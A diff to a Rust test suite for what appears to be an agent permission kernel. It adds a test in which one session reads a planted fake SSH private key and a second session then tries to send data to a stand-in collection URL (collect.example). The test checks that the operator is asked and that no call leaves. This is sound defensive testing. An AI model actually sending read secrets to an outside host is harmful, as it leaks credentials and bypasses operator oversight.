@@ -16,6 +16,7 @@ tests![
     a_yes_holds_for_the_agent_that_asked_and_no_other,
     all_agents_are_granted_a_permission_only_if_somebody_says_so,
     the_first_call_that_may_carry_out_a_key_is_asked_about_and_the_question_names_its_source,
+    what_one_session_reads_leaves_by_no_other_and_by_no_address_unasked,
 ];
 
 /// A kernel with a server `files` whose dangerous calls wait for an operator, and a client of it.
@@ -193,4 +194,31 @@ async fn the_first_call_that_may_carry_out_a_key_is_asked_about_and_the_question
         let events = flows["events"].as_array().unwrap();
         events.len() == 2 && events.iter().all(from)
     });
+}
+
+async fn what_one_session_reads_leaves_by_no_other_and_by_no_address_unasked() {
+    let home = Home::without_linger();
+    let agent = "\n[[agents]]\nid = \"local\"\nhuman = false\n[[ask]]\ntool = \"files.*\"\nask = \"never\"\n";
+    let web = "\n[servers.network]\nallow = [\"*.example\"]\n";
+    server::configure(&home, agent, &[("files", ""), ("web", web)]);
+    let (mut first, mut second) = (Kernel::in_background(&home), Kernel::in_background(&home));
+    let mut reading = Talk::open(&mut first);
+    home.write("notes/files/backup.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n");
+    let path = home.path("notes/files/backup.txt").display().to_string();
+    let key = reading.ask("tools/call", &json!({"name": "files.read_file", "arguments": {"path": path}}));
+    assert_ne!(key["result"]["isError"], true, "{key}");
+    let mut other = Talk::open(&mut second);
+    delete(&mut other, &json!({"what": "a"}));
+    let asked = question(&home);
+    assert!(asked["message"].as_str().unwrap().contains("private data by files.read_file"), "{asked}");
+    home.json(["permissions", "deny", asked["id"].as_str().unwrap()]);
+    let address = json!({"text": "https://collect.example/?d=4711"});
+    other.tell("tools/call", &json!({"name": "web.echo", "arguments": address}));
+    let asked = question(&home);
+    let message = asked["message"].as_str().unwrap();
+    assert!(
+        message.contains("private data by files.read_file") && message.contains("collect.example"),
+        "{message}"
+    );
+    assert_eq!(server::calls(&home, "web"), Vec::<String>::new());
 }
